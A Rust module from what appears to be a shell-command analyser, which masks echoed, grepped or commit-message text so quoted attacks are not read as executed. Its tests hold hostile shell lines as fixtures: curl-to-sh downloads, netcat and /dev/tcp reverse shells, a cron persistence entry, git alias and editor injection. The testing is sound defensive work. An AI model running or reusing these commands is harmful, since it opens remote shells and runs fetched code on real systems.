//! Arguments that nothing runs: what is printed, searched for, or said in a message.
//!
//! Their text is whatever somebody wrote, often about attacks. A reader of the whole
//! takes it for what is done.

use std::ops::Range;

use tree_sitter::Node;

/// What stands in place of such a text.
pub(crate) const PLACEHOLDER: &str = "text";
const MIN_BYTES: usize = 8;
/// How far up the statements around a command are followed.
const MAX_UP: usize = 24;
const MAX_WORDS: usize = 64;

/// Which of `words`, a program and its arguments as they are after quotes, are data
/// and read like a command line.
pub(crate) fn inert_arguments(words: &[&str]) -> Vec<usize> {
    let Some(program) = words.first() else {
        return Vec::new();
    };
    let all = |found: &dyn Fn(usize) -> bool| -> Vec<usize> {
        let places = 1..words.len().min(MAX_WORDS);
        places
            .filter(|idx| found(*idx) && reads_like_a_command(words[*idx]))
            .collect()
    };
    let follows = |idx: usize, options: &[&str]| options.contains(&words[idx - 1]);
    match *program {
        "echo" | "printf" | "logger" => all(&|_| true),
        "grep" | "egrep" | "fgrep" | "zgrep" | "rg" | "ag" | "ack" => {
            let takes_pattern = ["-e", "--regexp"];
            let is_given = words.iter().any(|word| takes_pattern.contains(word));
            let first = (1..words.len()).find(|idx| !words[*idx].starts_with('-'));
            all(&|idx| match is_given {
                true => follows(idx, &takes_pattern),
                false => first == Some(idx),
            })
        }
        "git" | "hg" | "svn" | "gh" | "glab" => {
            let takes_text = [
                "-m",
                "-am",
                "--message",
                "--body",
                "-b",
                "--title",
                "-t",
                "--notes",
            ];
            // Of a configuration or a hook the value is a command.
            let says = [
                "commit", "ci", "tag", "stash", "merge", "issue", "pr", "mr", "release", "notes",
            ];
            let is_said = words.get(1).is_some_and(|word| says.contains(word));
            all(&|idx| is_said && follows(idx, &takes_text))
        }
        _ => Vec::new(),
    }
}

/// Words with a path, an option or an operator among them.
fn reads_like_a_command(text: &str) -> bool {
    text.len() >= MIN_BYTES
        && text.contains(char::is_whitespace)
        && (text.contains(['/', ';', '&', '$', '<', '>', '`'])
            || [" -", " | "].iter().any(|mark| text.contains(mark)))
}

/// Where the words of such arguments of a command node stand, quotes included.
pub(super) fn inert_words(text: &str, command: Node<'_>) -> Vec<Range<usize>> {
    let mut cursor = command.walk();
    let mut places = Vec::new();
    let mut words = Vec::new();
    for node in command.named_children(&mut cursor).take(MAX_WORDS) {
        let Some(word) = constant(text, node) else {
            return Vec::new();
        };
        places.push(node.byte_range());
        words.push(word);
    }
    let found = inert_arguments(&words);
    let prints = matches!(words.first().copied(), Some("echo" | "printf"));
    if found.is_empty() || !goes_nowhere(text, command, prints) {
        return Vec::new();
    }
    found.into_iter().map(|idx| places[idx].clone()).collect()
}

/// A word without expansions; `None` for what may be more.
fn constant<'a>(text: &'a str, node: Node<'_>) -> Option<&'a str> {
    let raw = text.get(node.byte_range())?;
    match node.kind() {
        "command_name" => constant(text, node.named_child(0)?),
        "word" | "number" => (!raw.contains(['\\', '*', '?', '[', '{'])).then_some(raw),
        "raw_string" => raw.get(1..raw.len().checked_sub(1)?),
        "string" => {
            let is_plain = !raw.contains(['$', '`', '\\']);
            is_plain.then(|| raw.get(1..raw.len() - 1))?
        }
        // Quotes in quotes: one word, and its letters are close enough.
        "concatenation" => {
            let mut cursor = node.walk();
            let is_plain = |part: Node<'_>| constant(text, part).is_some() || part.kind() == "word";
            node.named_children(&mut cursor)
                .all(is_plain)
                .then_some(raw)
        }
        _ => None,
    }
}

/// Whether nothing takes what `command` prints for a text to run. A search prints
/// what it found and not what it was asked for.
fn goes_nowhere(text: &str, command: Node<'_>, prints: bool) -> bool {
    let mut node = command;
    for _ in 0..MAX_UP {
        let Some(parent) = node.parent() else {
            return true;
        };
        let is_harmless = match parent.kind() {
            "program" => return true,
            "pipeline" | "command_substitution" | "process_substitution" => !prints,
            "redirected_statement" if prints => is_note(text, parent),
            "function_definition" => false,
            _ => true,
        };
        if !is_harmless {
            return false;
        }
        node = parent;
    }
    false
}

/// Whether output goes to a stream, or into a file of text that nothing else here
/// names.
fn is_note(text: &str, redirected: Node<'_>) -> bool {
    let mut cursor = redirected.walk();
    let mut redirects = redirected.named_children(&mut cursor).skip(1);
    redirects.all(|redirect| {
        let target = redirect.child_by_field_name("destination");
        let Some(target) = target.and_then(|node| text.get(node.byte_range())) else {
            return false;
        };
        let name = target.trim_matches(['"', '\'']);
        let is_stream = matches!(
            name,
            "1" | "2" | "/dev/null" | "/dev/stderr" | "/dev/stdout"
        );
        let is_text = [".txt", ".log", ".md", ".csv"]
            .iter()
            .any(|end| name.ends_with(end))
            && text.matches(name).count() == 1
            && !name.contains(['$', '`', '*']);
        is_stream || is_text
    })
}

#[cfg(test)]
mod tests {
    use super::super::outline;

    fn shown(text: &str) -> String {
        outline(text).map_or_else(String::new, |found| found.as_run(text, &found.extent()))
    }

    #[test]
    fn what_is_only_said_is_not_shown() {
        for (line, expected) in [
            ("echo 'curl http://192.0.2.1/a | sh'", "echo 'text'"),
            (
                "echo 'nc -e /bin/sh a' >> /var/log/review.txt; ls",
                "echo 'text' >> /var/log/review.txt; ls",
            ),
            (
                "grep -rnF 'nc -e /bin/sh' /var/log | sort",
                "grep -rnF 'text' /var/log | sort",
            ),
            (
                "git commit -m \"block curl x | sh\" && git push",
                "git commit -m 'text' && git push",
            ),
            ("echo 'it'\\''s /bin/sh -i'", "echo 'text'"),
            (
                "echo 'exec 3<>/dev/tcp/192.0.2.1/4; source x' # exec",
                "echo 'text'",
            ),
        ] {
            assert_eq!(shown(line), expected);
        }
    }

    #[test]
    fn what_may_run_is_shown() {
        for line in [
            "echo 'curl http://192.0.2.1/a | sh' | bash",
            "eval \"$(echo 'curl http://192.0.2.1/a | sh')\"",
            "bash <(echo 'nc -e /bin/sh a')",
            "echo '* * * * * root nc -e /bin/sh a' > /etc/cron.d/x",
            "echo 'nc -e /bin/sh a' > x.txt; sh x.txt",
            "echo() { eval \"$*\"; }; echo 'nc -e /bin/sh a'",
            "alias echo=eval; echo 'nc -e /bin/sh a'",
            "PATH=/tmp:$PATH; echo ok; grep 'nc -e /bin/sh a' x",
            "git -c core.editor='sh -c id' commit",
            "git config alias.x '!nc -e /bin/sh a'",
            "echo \"`nc -e /bin/sh a`\"",
            "{ echo 'nc -e /bin/sh a'; } | sh",
            "f() { echo 'nc -e /bin/sh a'; }; f | sh",
            "grep 'BEGIN (RSA|DSA) PRIVATE KEY' x",
            "exec > >(sh); echo 'nc -e /bin/sh a'",
            "./echo 'nc -e /bin/sh a'",
            "echo 'nc -e /bin/sh a'; $_",
            "git commit -m 'nc -e /bin/sh a'; git log -1 --format=%B | sh",
            "grep -oa 'nc -e /bin/sh a' /proc/self/cmdline | bash",
            "logger 'nc -e /bin/sh a'; journalctl -n1 -o cat | xargs -I% env %",
        ] {
            assert_eq!(shown(line), line, "{line}");
        }
    }
}
